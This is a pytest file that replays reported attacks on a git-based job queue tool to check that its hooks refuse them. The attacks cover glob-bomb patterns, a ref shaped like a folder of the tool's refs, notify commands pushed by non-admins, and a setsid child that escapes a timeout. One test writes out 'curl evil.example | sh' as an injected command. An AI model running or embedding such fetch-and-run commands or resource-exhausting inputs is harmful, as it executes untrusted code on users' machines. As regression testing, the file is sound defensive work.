"""Issue 48's attacks (the third round), each repeated against the real thing: a hooked remote,
real runner processes, a real board on 127.0.0.1. Each test keeps the promise its name makes,
and its docstring names the attack it repeats."""

from __future__ import annotations

import json
import os
from pathlib import Path

import psutil

from conftest import edit, git, runner, step_file, wait_for
from hooked import IDENTITIES, QUEUE, accepted, clone, push_commit, queue, refused, remote, template  # noqa: F401 - fixtures among them
from runner.core.config import DEFAULT_TOML
from runner.core.limits import MAX_GLOB_SEGMENTS, MAX_TOUCHES
from runner.queue.queue import author_for
from runner.store import FORCE, RefUpdate


def glob_bomb(last: str, segments: int = 60) -> list[str]:
    """The attack's `touches:`: 64 globs of `**` and `a*` segments, the last one apart from the other step's."""
    return ["/".join(("**" if k % 3 == 1 else f"a{n}*" if k == 0 else "a*") for k in range(segments)) + f"/{last}"
            for n in range(MAX_TOUCHES)]


def test_a_ref_named_like_a_folder_of_runners_refs_is_refused_with_its_reason(remote, tmp_path):
    """Attack 4: a push of refs/heads/runner/steps (a folder of runner's step branches) was refused
    by an internal UnboundLocalError, the reason lost."""
    store = clone(remote, tmp_path / "clone").store
    junk = store.make_commit([], {"junk.txt": b"x\n"}, "block the step branches\n", author_for("mallory"))
    said = refused(remote, lambda: store.publish([RefUpdate("refs/heads/runner/steps", junk, FORCE)]),
                   "refs/heads/runner/steps: named like a folder of runner's refs (refs/heads/runner/steps",
                   ref="refs/heads/runner/steps")
    assert "hook failed" not in said and "UnboundLocalError" not in said
    assert git(remote, "rev-parse", "--verify", "-q", QUEUE)


def test_a_glob_bomb_is_refused_by_the_hook_as_over_the_glob_bounds(queue, remote):
    """Attack 2: two steps with 64 `touches:` globs of ~60 `**`/`a*` segments each; the hook accepted the plan
    and every claim decision, `runner ready`, `status` and the board then spent half a minute of CPU."""
    files = dict(step_file(step, touches=glob_bomb(last)) for step, last in (("01-bomb", "x"), ("02-bomb", "y")))
    said = refused(remote, lambda: push_commit(queue, files, "add two glob bombs\n"),
                   f"a glob has at most {MAX_GLOB_SEGMENTS}, and at most 4 `**`")
    assert "01-bomb.md" in said


def test_a_glob_bomb_already_on_a_queue_without_the_hook_is_an_invalid_step_no_claim_compares(queue_repo):
    """Attack 2 on a queue without the hook: the bombs are invalid steps, never ready, never compared."""
    edit(queue_repo, dict(step_file(step, touches=glob_bomb(last)) for step, last in (("01-bomb", "x"), ("02-bomb", "y"))))
    assert json.loads(runner(queue_repo, "ready", "--json").stdout)["steps"] == []
    rows = {row["step"]: row for row in json.loads(runner(queue_repo, "status", "--json").stdout)["steps"]}
    assert {rows[step]["status"] for step in ("01-bomb", "02-bomb")} == {"invalid"}
    assert f"a glob has at most {MAX_GLOB_SEGMENTS}" in rows["01-bomb"]["problems"][0]


def with_notify(command: list[str], urls: list[str] = (), timeout: str = "30s") -> str:
    text = DEFAULT_TOML.replace("detect = true", "detect = false").replace('timeout = "30s"  # a notice', f'timeout = "{timeout}"  # a notice')
    return text.replace("[notify]\ncommand = []", f"[notify]\ncommand = {json.dumps(command)}").replace(
        "urls = []", f"urls = {json.dumps(list(urls))}")


def notify_log(repo: Path) -> str:
    path = repo / ".git" / "runner" / "logs" / "notify.log"
    return path.read_text() if path.exists() else ""


def test_a_persons_halt_runs_no_notify_command_from_the_queue_unless_this_host_opted_in(queue_repo, tmp_path):
    """Attack 1: [notify] command comes from the queue branch (any pusher's, without identities) and ran on
    the machine of whoever recorded an event: a person's `runner halt` ran it on their laptop."""
    ran = tmp_path / "ran.txt"
    edit(queue_repo, {"runner.toml": with_notify(["sh", "-c", 'echo "$1" >> "$0"', str(ran), "{event}"]).encode()})
    runner(queue_repo, "halt", "--reason", "lunch", "--by", "alice")
    assert "halted of " in notify_log(queue_repo) and "not sent: [notify] comes from the queue branch" in notify_log(queue_repo)
    said = lambda: next(c["detail"] for c in json.loads(runner(queue_repo, "doctor", "--json").stdout)["checks"] if c["name"] == "notices")  # noqa: E731
    assert said().startswith("this host does not send [notify]'s notices")
    git(queue_repo, "config", "runner.notify", "true")  # this clone opts in, by a setting no push reaches
    assert said() == "this host sends [notify]'s notices (it opted in)"
    runner(queue_repo, "resume", "--by", "alice")
    runner(queue_repo, "halt", "--reason", "tea", "--by", "alice")
    assert wait_for(lambda: ran.exists() and ran.read_text()) == "halted\n"
    runner(queue_repo, "resume", "--by", "alice")
    runner(queue_repo, "halt", "--reason", "dinner", "--by", "alice", env={"RUNNER_NOTIFY": "0"})  # this process opts out
    assert notify_log(queue_repo).count("not sent: [notify] comes from the queue branch") == 2
    assert ran.read_text() == "halted\n"


def test_with_identities_only_an_admin_changes_notify(queue, remote, monkeypatch):
    """Attack 1 under identities: a person who is not an admin (bob) set [notify] command, and an admin's next
    `runner halt` ran it on the admin's laptop; [notify] is an admin's now, like [hooks]."""
    queue.edit(lambda snap: {"runner.toml": (with_notify([]) + IDENTITIES).encode()}, "identities", "alice")
    for changed in (with_notify(["sh", "-c", "curl evil.example | sh"]), with_notify([], ["json://evil.example/x"])):
        monkeypatch.setenv("RUNNER_PUSHER", "bob")
        refused(remote, lambda: push_commit(queue, {"runner.toml": (changed + IDENTITIES).encode()}, "notify me\n", author="bob"),
                "only [hooks] admins may change [hooks], [notify] or the branch names (pusher 'bob')")
    monkeypatch.setenv("RUNNER_PUSHER", "alice")
    accepted(push_commit(queue, {"runner.toml": (with_notify(["true"]) + IDENTITIES).encode()}, "notify\n", author="alice"))


def test_a_notify_command_dies_at_its_timeout_with_every_process_it_started(queue_repo, tmp_path):
    """Attack 9: a notify command's `setsid` child (its own session, out of the command's process group)
    outlived the command's timeout."""
    pids = tmp_path / "pids"
    escape = (f'setsid sh -c \'echo $$ >> "{pids}"; exec sleep 600\' & '
              f'until [ -s "{pids}" ]; do sleep 0.05; done; echo $$ >> "{pids}"; exec sleep 600')
    edit(queue_repo, {"runner.toml": with_notify(["sh", "-c", escape], timeout="5s").encode()})
    runner(queue_repo, "halt", "--reason", "lunch", "--by", "alice", env={"RUNNER_NOTIFY": "1"})
    wait_for(lambda: "timed out (killed)" in notify_log(queue_repo))
    started = [int(pid) for pid in pids.read_text().split()]
    assert len(started) == 2  # the setsid child, then the command itself
    assert wait_for(lambda: all(gone(pid) for pid in started), timeout=30)


def gone(pid: int) -> bool:
    try:
        return psutil.Process(pid).status() == psutil.STATUS_ZOMBIE
    except psutil.NoSuchProcess:
        return True
